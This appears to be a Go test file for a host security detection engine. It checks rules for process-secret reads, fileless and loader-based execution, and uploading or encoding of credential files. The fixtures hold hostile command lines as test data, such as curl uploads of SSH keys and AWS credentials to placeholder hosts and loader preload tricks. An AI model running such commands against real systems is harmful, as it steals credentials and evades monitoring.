package policy

import (
	"slices"
	"strings"
	"testing"
)

func TestNewRulesFollowFilePersistence(t *testing.T) {
	for i, id := range []string{"file.process_secrets", "exec.fileless", "exec.loader", "flow.encode_sensitive",
		"file.sensitive_alias", "file.sensitive_change", "file.chmod_exec"} {
		if got := builtinRules[RuleFilePersistence+1+i].ID; got != id {
			t.Errorf("rule %d is %s, want %s", RuleFilePersistence+1+i, got, id)
		}
	}
	for _, c := range []struct {
		rule     int
		category string
		score    int
	}{
		{RuleFileProcessSecrets, CatCredentialAccess, 80},
		{RuleExecFileless, CatDefenseEvasion, 80},
		{RuleExecLoader, CatDefenseEvasion, 50},
		{RuleFlowEncodeSensitive, CatCollection, 75},
		{RuleFileSensitiveAlias, CatCredentialAccess, 70},
		{RuleFileSensitiveChange, CatDefenseEvasion, 40},
		{RuleFileChmodExec, CatExecution, 30},
	} {
		if r := builtinRules[c.rule]; r.Category != c.category || r.Score != c.score {
			t.Errorf("%s: %s %d, want %s %d", r.ID, r.Category, r.Score, c.category, c.score)
		}
	}
}

func TestProcSecretTarget(t *testing.T) {
	for p, want := range map[string]int64{
		"/proc/1/environ": 1, "/proc/4242/mem": 4242, "/proc/4242/task/4243/environ": 4242, "/proc/7/task/7/mem": 7,
		"/proc/self/environ": -1, "/proc/thread-self/mem": -1, "/proc/self/task/1/mem": -1, "/proc/12/cmdline": -1,
		"/proc/12/environ/x": -1, "/proc/12/task/environ": -1, "/proc/12/task/x/mem": -1, "/proc/12a/mem": -1,
		"/proc/environ": -1, "/proc/12": -1, "/proc/12345678901/mem": -1, "/procx/12/mem": -1, "/tmp/proc/1/mem": -1,
		"/proc/12/root/proc/1/environ": -1,
	} {
		n, ok := procSecretTarget(p)
		if ok != (want >= 0) || ok && n != want {
			t.Errorf("procSecretTarget(%q) = %d, %v; want %d", p, n, ok, want)
		}
	}
}

func TestMatchProcSecrets(t *testing.T) {
	p := mustCompile(t)
	for _, tt := range []struct {
		path      string
		pid       int64
		hasPID    bool
		target    int64
		hasTarget bool
		want      bool
	}{
		{"/proc/99/environ", 10, true, 0, false, true},
		{"/proc/10/environ", 10, true, 0, false, false},
		{"/proc/99/environ", 10, true, 10, true, false},
		{"/proc/10/mem", 10, true, 99, true, true},
		{"/proc/99/environ", 0, false, 0, false, true},
		{"/proc/self/environ", 10, true, 99, true, false},
		{"/proc/99/status", 10, true, 99, true, false},
	} {
		var rs RuleSet
		got := p.MatchProcSecrets(tt.path, tt.pid, tt.hasPID, tt.target, tt.hasTarget, &rs)
		if got != tt.want || rs.Has(RuleFileProcessSecrets) != tt.want {
			t.Errorf("%+v: sensitive %v, rule %v", tt, got, rs.Has(RuleFileProcessSecrets))
		}
	}
	off := false
	l := seedLayer()
	l.Rules = map[string]RuleOverride{"file.process_secrets": {Enabled: &off}}
	p = mustCompile(t, l)
	var rs RuleSet
	if p.MatchProcSecrets("/proc/99/environ", 10, true, 0, false, &rs) {
		t.Fatal("a disabled rule makes no sensitive read")
	}
	if ids(p, &rs); !rs.Empty() {
		t.Fatal("masked")
	}
}

func TestMatchExecLoaderAndFileless(t *testing.T) {
	p := mustCompile(t)
	alice := Homes{"/home/alice", "/home/alice"}
	const ld = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
	tests := []struct {
		name     string
		e        Exec
		want     []string
		encodes  bool
		targets  []string
		noTarget bool
	}{
		{"loader running curl upload", Exec{Exe: ld, Program: "/usr/bin/curl",
			Args: []string{"ld-linux-x86-64.so.2", "/usr/bin/curl", "-d", "@/home/alice/.ssh/id_ed25519", "http://x"}},
			want("exec.loader", "binary.transfer", "argv.curl_upload", "argv.upload_sensitive"), false, nil, true},
		{"loader options before the program", Exec{Exe: ld, Program: "/usr/bin/curl",
			Args: []string{ld, "--library-path", "/opt/lib", "--preload", "/opt/x.so", "/usr/bin/curl", "-T", "~/.aws/credentials", "http://x"}},
			want("exec.loader", "binary.transfer", "argv.curl_upload", "argv.upload_sensitive"), false, nil, true},
		{"program found by base name", Exec{Exe: ld, Program: "/usr/bin/base64",
			Args: []string{ld, "./base64", "/home/alice/.aws/credentials"}},
			want("exec.loader", "binary.encode", "argv.encode_sensitive"), true, nil, true},
		{"program not in argv: the whole argv", Exec{Exe: ld, Program: "/usr/bin/curl",
			Args: []string{ld, ArgsCut, "-d", "@/home/alice/.ssh/id_rsa", "http://x"}},
			want("exec.loader", "binary.transfer", "argv.curl_upload", "argv.upload_sensitive"), false, nil, true},
		{"loader running chmod", Exec{Exe: ld, Program: "/usr/bin/chmod", Cwd: "/tmp",
			Args: []string{ld, "/usr/bin/chmod", "+x", "payload"}},
			want("exec.loader", "binary.permission", "argv.chmod_exec"), false, []string{"/tmp/payload"}, false},
		{"loader running a harmless program", Exec{Exe: ld, Program: "/usr/bin/ls", Args: []string{ld, "/usr/bin/ls", "-la"}},
			want("exec.loader"), false, nil, true},
		{"the loader without a program is nothing", Exec{Exe: ld, Args: []string{ld, "/usr/bin/curl", "-d", "@/home/alice/.ssh/id_rsa", "http://x"}},
			want(), false, nil, true},
		{"memfd", Exec{Exe: "/memfd:x (deleted)", Fileless: true, Args: []string{"x"}}, want("exec.fileless"), false, nil, true},
		{"deleted curl keeps its name", Exec{Exe: "/tmp/curl (deleted)", Fileless: true, Args: []string{"/tmp/curl", "-T", "/home/alice/.ssh/id_rsa", "ftp://h/"}},
			want("exec.fileless", "binary.transfer", "argv.curl_upload", "argv.upload_sensitive"), false, nil, true},
		{"archiver encodes", Exec{Exe: "/usr/bin/gzip", Args: []string{"gzip", "-c"}}, want(), true, nil, true},
		{"curl does not encode", Exec{Exe: "/usr/bin/curl", Args: []string{"curl", "http://x"}}, want("binary.transfer"), false, nil, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var rs RuleSet
			e := tt.e
			e.Homes = alice
			f := p.MatchExec(&e, &rs)
			if got := ids(p, &rs); !slices.Equal(got, tt.want) {
				t.Fatalf("rules %v, want %v", got, tt.want)
			}
			if f.Encodes != tt.encodes {
				t.Fatalf("encodes %v", f.Encodes)
			}
			if !tt.noTarget && !slices.Equal(f.ChmodTargets, tt.targets) {
				t.Fatalf("targets %v", f.ChmodTargets)
			}
		})
	}
}

func TestArgsCutMarker(t *testing.T) {
	p := mustCompile(t)
	alice := Homes{"/home/alice", "/home/alice"}
	pad := func(n int) []string {
		out := make([]string, n)
		for i := range out {
			out[i] = "x" + strings.Repeat("y", i%7)
		}
		return out
	}
	long := append(append(append([]string{"curl"}, pad(300)...), ArgsCut), pad(300)...)
	long = append(long, "-d", "@~/.ssh/id_ed25519", "http://x")
	tests := []struct {
		name string
		exe  string
		args []string
		cwd  string
		want []string
	}{
		{"the tail of 600 arguments", "/usr/bin/curl", long, "/tmp", want("binary.transfer", "argv.curl_upload", "argv.upload_sensitive")},
		{"an option before the cut does not take the marker", "/usr/bin/curl", []string{"curl", "-H", ArgsCut, "-d", "@/home/alice/.aws/credentials", "http://x"}, "/tmp",
			want("binary.transfer", "argv.curl_upload", "argv.upload_sensitive")},
		{"a long option before the cut", "/usr/bin/curl", []string{"curl", "--header", ArgsCut, "--data-binary", "@/home/alice/.aws/credentials", "http://x"}, "/tmp",
			want("binary.transfer", "argv.curl_upload", "argv.upload_sensitive")},
		{"the marker is no path in ~/.ssh", "/usr/bin/base64", []string{"base64", ArgsCut}, "/home/alice/.ssh", want("binary.encode")},
		{"nor a tree", "/usr/bin/tar", []string{"tar", "-cz", ArgsCut}, "/home/alice/.ssh", want("binary.staging")},
		{"nor a tar -C directory", "/usr/bin/tar", []string{"tar", "-C", ArgsCut, "-czf", "/tmp/x.tgz", "src"}, "/home/alice", want("binary.staging")},
		{"nor an upload of a sensitive file", "/usr/bin/scp", []string{"scp", "-r", ArgsCut}, "/home/alice/.ssh", want("binary.lateral_movement")},
		{"the tail still names a key", "/usr/bin/scp", []string{"scp", "a", ArgsCut, "/home/alice/.ssh/id_rsa", "h:/x"}, "/tmp", want("binary.lateral_movement", "argv.upload_sensitive")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var rs RuleSet
			p.MatchExec(&Exec{Exe: tt.exe, Args: tt.args, Cwd: tt.cwd, Homes: alice}, &rs)
			if got := ids(p, &rs); !slices.Equal(got, tt.want) {
				t.Fatalf("rules %v, want %v", got, tt.want)
			}
		})
	}
	var rs RuleSet
	f := p.MatchExec(&Exec{Exe: "/usr/bin/chmod", Args: []string{"chmod", "+x", "a", ArgsCut, "z"}, Cwd: "/tmp"}, &rs)
	if !slices.Equal(f.ChmodTargets, []string{"/tmp/a", "/tmp/z"}) {
		t.Fatalf("chmod targets %v", f.ChmodTargets)
	}
	if f = p.MatchExec(&Exec{Exe: "/usr/bin/chmod", Args: []string{"chmod", ArgsCut, "z"}, Cwd: "/tmp"}, &rs); f.ChmodTargets != nil {
		t.Fatalf("the mode was cut out: %v", f.ChmodTargets)
	}
}

func TestMatchExecViewDoesNotAllocate(t *testing.T) {
	p := mustCompile(t)
	const ld = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
	execs := []Exec{
		// (A relative argument costs the allocation of resolving it, as before.)
		{Exe: ld, Program: "/usr/bin/git", Args: []string{ld, "--preload", "/opt/x.so", "/usr/bin/git", "--version"}, Cwd: "/home/alice/proj"},
		{Exe: "/memfd:x (deleted)", Fileless: true, Args: []string{"x", "--flag"}},
		{Exe: "/usr/bin/git", Args: []string{"git", "log", ArgsCut, "--oneline"}},
	}
	for i := range execs {
		execs[i].Homes = Homes{"/home/alice", "/home/alice"}
	}
	n := testing.AllocsPerRun(200, func() {
		for i := range execs {
			var rs RuleSet
			p.MatchExec(&execs[i], &rs)
		}
	})
	if n != 0 {
		t.Fatalf("MatchExec allocates %v times", n)
	}
}

func TestMatchPathTree(t *testing.T) {
	p := mustCompile(t)
	root := Homes{"/root", "/root"}
	for _, tt := range []struct {
		path string
		want []string
	}{
		{"/root/.ssh", want("file.ssh_key")},
		{"/root/.ssh/id_rsa", want("file.ssh_key")},
		{"/root", want("file.cloud_credentials", "file.ssh_key", "file.kube", "file.gcloud", "file.gnupg")},
		{"/", want("file.cloud_credentials", "file.ssh_key", "file.kube", "file.gcloud", "file.gnupg", "file.shadow")},
		{"/root/.config", want("file.gcloud")},
		{"/etc", want("file.shadow")},
		{"/srv/app", want()}, // name patterns (.env) only match directly
		{"/srv/app/.env", want("file.dotenv")},
		{"/tmp/x", want()},
	} {
		var rs RuleSet
		sensitive := p.MatchPathTree(tt.path, root, "", &rs)
		if got := ids(p, &rs); !slices.Equal(got, tt.want) || sensitive != (len(tt.want) > 0) {
			t.Errorf("MatchPathTree(%q) = %v %v, want %v", tt.path, got, sensitive, tt.want)
		}
	}
	// The working directory exemption holds as in MatchPath.
	var rs RuleSet
	if p.MatchPathTree("/root/.kube/cache", root, "/root/.kube", &rs) {
		t.Fatal("inside the workdir")
	}
	for path, want := range map[string]bool{
		"/root/.ssh": true, "/root/.ssh/authorized_keys": true, "/etc/cron.d": true, "/etc/cron.d/job": true, "/root/.config": true,
		"/root": true, "/root/proj": false, "/tmp": false, "/root/proj/.git/hooks/pre-commit.sample": false,
	} {
		var rs RuleSet
		p.MatchPersistenceTree(path, root, &rs)
		if rs.Has(RuleFilePersistence) != want {
			t.Errorf("MatchPersistenceTree(%q) = %v", path, !want)
		}
	}
}

func TestIsPersistenceAndDisabled(t *testing.T) {
	p := mustCompile(t)
	root := Homes{"/root", "/root"}
	if !p.IsPersistence("/root/.bashrc", root) || p.IsPersistence("/root/notes", root) {
		t.Fatal("IsPersistence")
	}
	off := false
	l := seedLayer()
	l.Rules = map[string]RuleOverride{"file.persistence": {Enabled: &off}}
	p = mustCompile(t, l)
	if p.IsPersistence("/root/.bashrc", root) {
		t.Fatal("with file.persistence off nothing is a persistence target")
	}
}

func TestNewRuleOverrides(t *testing.T) {
	off, score := false, 12
	l := seedLayer()
	l.Rules = map[string]RuleOverride{}
	for _, id := range []string{"file.process_secrets", "exec.fileless", "exec.loader", "flow.encode_sensitive", "file.sensitive_alias", "file.sensitive_change", "file.chmod_exec"} {
		l.Rules[id] = RuleOverride{Score: &score}
	}
	l.Rules["exec.loader"] = RuleOverride{Enabled: &off}
	p := mustCompile(t, l)
	for _, id := range []string{"file.process_secrets", "exec.fileless", "flow.encode_sensitive", "file.sensitive_alias", "file.sensitive_change", "file.chmod_exec"} {
		i, ok := p.RuleIndex(id)
		if !ok || p.Rule(i).Score != 12 || !p.Enabled(i) {
			t.Errorf("%s: %+v", id, p.Rule(i))
		}
	}
	var rs RuleSet
	p.MatchExec(&Exec{Exe: "/lib64/ld-linux-x86-64.so.2", Program: "/usr/bin/ls", Args: []string{"ld", "/usr/bin/ls"}}, &rs)
	if got := ids(p, &rs); len(got) != 0 {
		t.Fatalf("disabled exec.loader: %v", got)
	}
	high := 101
	l.Rules = map[string]RuleOverride{"file.chmod_exec": {Score: &high}}
	if _, err := Compile([]Layer{l}, testOptions()); err == nil || !strings.Contains(err.Error(), `rules."file.chmod_exec".score`) {
		t.Fatalf("got %v", err)
	}
}

func TestIsBindMountAndModes(t *testing.T) {
	for flags, want := range map[string]bool{"MS_BIND": true, "MS_BIND|MS_REC": true, "MS_REC|MS_BIND": true, "MS_RDONLY": false, "": false, "MS_BINDX": false, " MS_BIND ": true} {
		if IsBindMount(flags) != want {
			t.Errorf("IsBindMount(%q) = %v", flags, !want)
		}
	}
	for mode, want := range map[uint32]bool{0o755: true, 0o700: true, 0o010: true, 0o001: true, 0o644: false, 0o600: false, 0o4644: false, 0: false} {
		if ModeAddsExec(mode) != want {
			t.Errorf("ModeAddsExec(%o) = %v", mode, !want)
		}
	}
}

func TestExecPath(t *testing.T) {
	for _, c := range [][3]string{
		{"/usr/bin/curl", "", "/usr/bin/curl"},
		{"/tmp/x (deleted)", "", "/tmp/x"},
		{"/lib64/ld-linux-x86-64.so.2", "/usr/bin/curl", "/usr/bin/curl"},
		{"/lib64/ld.so", "/tmp/p (deleted)", "/tmp/p"},
	} {
		if got := ExecPath(c[0], c[1]); got != c[2] {
			t.Errorf("ExecPath(%q, %q) = %q", c[0], c[1], got)
		}
	}
}
